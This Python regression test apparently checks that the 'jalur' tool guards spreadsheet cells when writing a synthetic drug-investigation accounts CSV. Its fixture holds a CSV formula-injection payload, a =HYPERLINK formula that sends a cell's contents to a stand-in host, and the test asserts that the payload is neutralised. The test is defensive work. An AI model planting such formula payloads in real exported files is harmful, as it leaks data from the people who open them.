"""`jalur generate` writes `drug_investigation_accounts.csv` for people to open and for `jalur
accounts flag`: half its dealers are listed traffickers, their holder name taken from the
loaded list, and a list source's name such as `=HYPERLINK(…)` went into the file raw, a
formula that ran in Excel (CWE-1236). Its text cells are now guarded."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from case_story import ok
from jalur.config import Settings

EVIL = '=HYPERLINK("http://x/?"&A1,"open")'


def test_a_listed_name_is_inert_in_the_drug_file(tmp_path: Path) -> None:
    entries = [
        {"id": "kartel", "schema": "Person",
         "properties": {"name": [EVIL], "topics": ["crime.traffick.drug"]}},
        {"id": "sel", "schema": "Person",
         "properties": {"name": ["Abu Rusdan"], "topics": ["crime.terror"]}},
    ]  # fmt: skip
    text = "".join(json.dumps(entry) + "\n" for entry in entries)
    (tmp_path / "drug.ftm.json").write_text(text, encoding="utf-8")
    settings = Settings.resolve(tmp_path / "home")
    ok(settings, "lists", "load", str(tmp_path / "drug.ftm.json"), "--format", "ftm")
    out = tmp_path / "gen"
    ok(settings, "generate", "--transactions", "5000", "--seed", "3", "--out", str(out))
    with (out / "drug_investigation_accounts.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["holder_name"] for row in rows}
    assert any(name.startswith("'=HYPERLINK") for name in names), names
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
